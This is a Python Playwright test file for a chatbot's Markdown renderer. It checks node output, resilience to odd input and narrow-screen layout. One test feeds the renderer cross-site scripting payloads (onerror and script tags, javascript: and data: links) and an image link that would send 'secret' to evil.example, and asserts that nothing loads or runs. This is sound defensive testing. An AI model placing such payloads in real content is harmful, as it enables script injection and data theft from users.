"""Answers in Markdown, honest and hostile, in a real browser."""

from __future__ import annotations

import re

import pytest
from chatbot.browsing import answers, say
from chatbot.upstream import Say
from playwright.sync_api import expect

MARKDOWN = """# Title

A **bold _and italic_** word, `code <b>`, ~~gone~~, snake_case_name, 2 * 3 * 4, \\*plain\\*.
Second line with [a link](https://example.com/a_(b)) and https://example.com/x_y.

1. one
   - nested
   - [x] done
2. two

   ```py
   if a < b:
       pass
   ```
3. three

> quoted

| a | b |
|:--|--:|
| `x` | 1 |
"""


def test_markdown_becomes_nodes(visit, upstream):
    upstream.answers = [Say(tuple(re.findall(r"(?s).{1,3}", MARKDOWN)))]
    page = visit()
    say(page, "Show")
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    answer = answers(page)
    expect(answer.locator("h2")).to_have_text("Title")
    expect(answer.locator("strong > em")).to_have_text("and italic")
    expect(answer.locator("p > code")).to_have_text("code <b>")
    expect(answer.locator("del")).to_have_text("gone")
    expect(answer.locator("p").first).to_contain_text("snake_case_name, 2 * 3 * 4, *plain*.")
    expect(answer.locator("p > br")).to_have_count(1)
    expect(answer.locator("p > a").first).to_have_attribute("href", "https://example.com/a_(b)")
    expect(answer.locator("p > a").last).to_have_attribute("href", "https://example.com/x_y")
    expect(answer.locator("p > a").first).to_have_attribute("rel", "noopener noreferrer")
    expect(answer.locator("> ol > li")).to_have_count(3)
    expect(answer.locator("> ol > li > ul > li")).to_have_text(["nested", "☑ done"])
    expect(answer.locator("li pre")).to_have_text("if a < b:\n    pass")
    expect(answer.locator("blockquote")).to_have_text("quoted")
    expect(answer.locator("td").last).to_have_class("right")


HOSTILE = """<img src="https://evil.example/a" onerror="alert(1)"> <script>alert(2)</script>

![secret](https://evil.example/?d=secret) [x](javascript:alert(3)) [y](data:text/html,hi)
[z](//evil.example) <javascript:alert(4)> [w](JaVaScRiPt:alert(5))
"""


def test_a_hostile_answer_fetches_nothing_and_runs_nothing(visit, upstream):
    upstream.answers = [Say((HOSTILE,))]
    page = visit()
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    say(page, "Attack")
    expect(answers(page)).to_contain_text('<img src="https://evil.example/a" onerror="alert(1)">')
    expect(answers(page).locator("img, script, iframe")).to_have_count(0)
    links = answers(page).locator("a").evaluate_all("nodes => nodes.map((node) => node.href)")
    assert {link.split(":")[0] for link in links} == {"https"}


def test_a_very_odd_answer_is_shown_in_reasonable_time(visit, upstream):
    odd = "**a *b _c ~~d `e [f](g ![h " * 2000 + "\n" + "> " * 500 + "- " * 500 + "x" + "|" * 5000
    upstream.answers = [Say((odd,))]
    page = visit()
    say(page, "Odd")
    expect(page.get_by_role("button", name="Send")).to_be_visible(timeout=60_000)
    expect(answers(page)).to_contain_text("**a")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_narrowest_screen_needs_no_sideways_scrolling(visit, upstream, scheme):
    upstream.answers = [Say((MARKDOWN + "\n```\n" + "x" * 300 + "\n```\n" + "y" * 300,))]
    page = visit(viewport={"width": 320, "height": 560}, color_scheme=scheme)
    say(page, "z" * 300)
    expect(answers(page)).to_contain_text("yyy")
    assert page.evaluate("document.documentElement.scrollWidth") <= 320
